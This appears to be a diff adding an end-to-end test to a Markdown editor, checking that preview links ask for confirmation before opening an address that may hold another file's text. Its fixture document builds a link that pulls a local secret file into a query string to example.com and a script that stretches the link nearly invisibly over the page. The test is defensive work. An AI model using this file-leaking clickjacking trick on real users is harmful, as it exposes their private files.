@@ -114,3 +114,72 @@ function cover() {
         }
     }
 }
+
+// With transclusion on, a document's raw HTML writes a link whose address
+// holds a file of the user's, taken in ("{{...}}"), and its script stretches
+// that link over the page, nearly transparent. A click on plain text asks,
+// with the whole address, and Cancel opens nothing; a click on the link's
+// own text asks too, for its address may hold any file's text. With
+// transclusion off, the same link, plainly shown, opens at once.
+TEST(PreviewLinksEndToEnd, AClickAsksBeforeAnAddressThatMayHoldAnotherFilesText) {
+    StandInOpener &opener = StandInOpener::install();
+    opener.clear();
+    QTemporaryDir root;
+    ASSERT_TRUE(QDir(root.path()).mkpath("secret") && QDir(root.path()).mkpath("notes/doc"));
+    ASSERT_TRUE(writeFile(root.filePath("secret/secret.txt"), "TOPSECRET-42"));
+    const QString document = root.filePath("notes/doc/notes.md");
+    ASSERT_TRUE(writeFile(document, R"md(# Notes
+
+Dear diary, nobody knows.
+
+<a id="more" href="https://example.com/t?d={{../../secret/secret.txt}}">more</a>
+
+<script>
+function stretch(on) {
+  document.getElementById('more').style.cssText =
+    on ? 'position:fixed;left:0;top:0;right:0;bottom:0;opacity:0.01' : '';
+}
+stretch(true);
+</script>
+)md"));
+    NewUser user(root.filePath("preferences.json"));
+    user.defaults().setBool(true, "EXT_TRANSCLUDE");
+    platform::ScriptedAlerts alerts;
+    {
+        Application application(user.defaults(), TZRThemeController::standardLocations());
+        SmartEditorDocument *opened = application.open(document);
+        ASSERT_TRUE(opened);
+        auto *content = dynamic_cast<TZRMasterView *>(opened->content());
+        ASSERT_TRUE(content && content->webView());
+        SmartWebView &preview = *content->webView();
+        ASSERT_TRUE(previewShows(&preview, "Dear diary"));
+        const QString address = "https://example.com/t?d=TOPSECRET-42";
+        ASSERT_EQ(web_test::evaluateText(preview, "document.getElementById('more').href"), address);
+
+        alerts.addAnswers({1, 1});
+        ASSERT_TRUE(web_test::clickElement(preview, "h1"));
+        ASSERT_TRUE(testing_qt::spinUntil([&] { return alerts.count() == 1; }, 20s));
+        web_test::evaluate(preview, "stretch(false)");
+        ASSERT_TRUE(web_test::clickElement(preview, "#more"));
+        ASSERT_TRUE(testing_qt::spinUntil([&] { return alerts.count() == 2; }, 20s));
+        testing_qt::spinFor(1s);
+        EXPECT_EQ(opener.calls(), QStringList());
+        for (const platform::Alert &alert : alerts.shown()) {
+            EXPECT_EQ(alert.messageText, "Open this address?");
+            EXPECT_EQ(alert.informativeText, address);
+            EXPECT_EQ(alert.defaultButton, 1);
+        }
+
+        // Transclusion off: the link, written by the document and plainly
+        // shown, opens at once.
+        user.defaults().setBool(false, "EXT_TRANSCLUDE");
+        ASSERT_TRUE(testing_qt::spinUntil(
+            [&] { return previewText(&preview).contains("more") && !previewText(&preview).contains("TOPSECRET"); },
+            30s));
+        web_test::evaluate(preview, "stretch(false)");
+        ASSERT_TRUE(web_test::clickElement(preview, "#more"));
+        ASSERT_TRUE(testing_qt::spinUntil([&] { return opener.calls().size() == 1; }, 20s));
+        EXPECT_EQ(opener.calls().last(), "https://example.com/t?d=%7B%7B../../secret/secret.txt%7D%7D");
+        EXPECT_EQ(alerts.count(), 2);
+    }
+}
